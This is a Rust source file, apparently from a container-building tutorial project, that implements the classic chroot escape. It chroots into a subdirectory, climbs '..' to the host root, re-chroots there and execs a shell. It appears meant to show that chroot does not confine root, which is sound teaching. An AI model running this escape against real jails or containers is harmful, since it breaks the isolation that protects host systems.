//! chroot-escape: the classic way for root to walk out of a chroot.
//!
//! Usage, inside a container:  chroot-escape [CMD [ARGS...]]   (default: /bin/sh)
//!
//! This file is built by `build.rs` as a *static* executable (it has to run
//! inside a rootfs that has no C library) and installed as `/bin/chroot-escape`
//! by `berth-mkrootfs`. It uses only the standard library for that reason.

use std::os::unix::fs::{MetadataExt, chroot};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, ExitCode};

// ANCHOR: escape
/// Leave the current chroot; returns how many directories we climbed above it.
fn escape() -> std::io::Result<u32> {
    // 1. chroot(2) changes the root but not the working directory. Chroot into
    //    a subdirectory and stay where we are: our cwd is now *outside* our root,
    //    and the kernel only stops ".." at the root, never above it.
    std::env::set_current_dir("/")?;
    std::fs::create_dir_all("/tmp")?;
    chroot("tmp")?;

    // 2. Climb. At the real root, ".." is the root itself: same device and inode.
    let mut climbed = 0;
    loop {
        let here = std::fs::metadata(".")?;
        let parent = std::fs::metadata("..")?;
        if (here.dev(), here.ino()) == (parent.dev(), parent.ino()) {
            break;
        }
        std::env::set_current_dir("..")?;
        climbed += 1;
    }

    // 3. Make the directory we reached our root: the host's root, if there
    //    was nothing but a chroot between us and it.
    chroot(".")?;
    Ok(climbed)
}
// ANCHOR_END: escape

fn main() -> ExitCode {
    let mut args = std::env::args_os().skip(1);
    let program = args.next().unwrap_or_else(|| "/bin/sh".into());

    let climbed = match escape() {
        Ok(n) => n,
        Err(err) => {
            eprintln!("chroot-escape: {err} (only root can do this)");
            return ExitCode::from(125);
        }
    };
    eprintln!("chroot-escape: climbed {climbed} directories above the old root");

    // exec only returns on error.
    let err = Command::new(&program).args(args).exec();
    eprintln!("chroot-escape: {}: {err}", Path::new(&program).display());
    ExitCode::from(127)
}
